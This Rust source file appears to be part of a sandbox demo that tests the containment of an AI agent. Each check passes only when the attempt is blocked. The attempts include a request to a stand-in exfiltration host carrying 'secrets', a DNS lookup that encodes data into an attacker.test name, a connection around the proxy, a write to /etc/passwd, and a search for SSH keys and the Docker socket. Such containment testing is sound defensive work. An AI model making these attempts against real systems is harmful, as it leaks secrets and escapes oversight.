//! The demo's sandboxed part: what an agent might try, and what comes of it.

use std::{
    env, fs,
    io::{Read, Write},
    net::{SocketAddr, TcpStream, ToSocketAddrs},
    time::{Duration, Instant},
};

use crate::Failure;

const PROXY: &str = "127.0.0.1:3128";
const TIMEOUT: Duration = Duration::from_secs(5);

/// Tries everything; the exit code says whether all of it went as promised.
pub(super) fn run() -> Result<u8, Failure> {
    println!("inside the sandbox:");
    let checks = [allowed(), denied(), bypass(), lookup(), files(), privileges()];
    Ok(u8::from(!checks.iter().all(|ok| *ok)))
}

fn say(ok: bool, what: &str, outcome: &str) -> bool {
    println!("  {} {what}\n      {outcome}", if ok { "ok  " } else { "FAIL" });
    ok
}

fn allowed() -> bool {
    let (status, body) = get("http://api.demo.test/");
    say(status == 200, "GET http://api.demo.test/ (the policy allows it)", &format!("{status}: {}", body.trim()))
}

fn denied() -> bool {
    let (status, body) = get("http://exfil.demo.test/?data=secrets");
    say(status == 403, "GET http://exfil.demo.test/ (no rule allows it)", &format!("{status}: {}", body.trim()))
}

/// A connection that goes around the proxy.
fn bypass() -> bool {
    let address = SocketAddr::from(([203, 0, 113, 7], 22));
    let start = Instant::now();
    let result = TcpStream::connect_timeout(&address, TIMEOUT);
    let took = start.elapsed();
    let refused = result.as_ref().is_err_and(|e| e.kind() == std::io::ErrorKind::ConnectionRefused);
    let outcome = result.map_or_else(|e| e.to_string(), |_| "connected".to_owned());
    say(refused, "connect to 203.0.113.7:22, past the proxy", &format!("{outcome}, after {} µs", took.as_micros()))
}

/// A name that would carry data to a resolver of the attacker's.
fn lookup() -> bool {
    let found = ("c2VjcmV0.attacker.test", 80).to_socket_addrs().map(|a| a.count());
    let outcome = found.as_ref().map_or_else(ToString::to_string, |n| format!("{n} addresses"));
    say(found.is_err(), "resolve c2VjcmV0.attacker.test", &format!("{outcome}; no resolver was asked"))
}

fn files() -> bool {
    let write = fs::write("out.txt", "made inside\n");
    let passwd = fs::OpenOptions::new().append(true).open("/etc/passwd");
    let home = env::home_dir().is_some_and(|h| h.join(".ssh").exists()) || fs::metadata("/run/docker.sock").is_ok();
    let outcome = format!(
        "workspace: {}; /etc/passwd: {}; keys and daemon sockets: {}",
        write.as_ref().map_or_else(ToString::to_string, |()| "written".to_owned()),
        passwd.as_ref().map_or_else(ToString::to_string, |_| "opened".to_owned()),
        if home { "visible" } else { "absent" },
    );
    say(write.is_ok() && passwd.is_err() && !home, "write in the workspace, write elsewhere, look for keys", &outcome)
}

fn privileges() -> bool {
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let field = |name: &str| status.lines().find_map(|l| l.strip_prefix(name)).unwrap_or("?").trim().to_owned();
    let (caps, filter, nnp) = (field("CapBnd:"), field("Seccomp:"), field("NoNewPrivs:"));
    let held = caps.chars().all(|c| c == '0') && filter == "2" && nnp == "1";
    say(held, "what this process may do", &format!("capabilities {caps}, seccomp {filter}, no_new_privs {nnp}"))
}

/// A request in absolute form, as curl sends it to a proxy.
fn get(url: &str) -> (u16, String) {
    let host = url.trim_start_matches("http://").split('/').next().unwrap_or_default();
    let answer = || -> std::io::Result<String> {
        let mut stream = TcpStream::connect(PROXY)?;
        stream.set_read_timeout(Some(TIMEOUT))?;
        write!(stream, "GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")?;
        let mut text = String::new();
        stream.read_to_string(&mut text)?;
        Ok(text)
    };
    match answer() {
        Ok(text) => {
            let status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
            let body = text.split_once("\r\n\r\n").map_or("", |(_, body)| body);
            (status, body.to_owned())
        }
        Err(e) => (0, e.to_string()),
    }
}
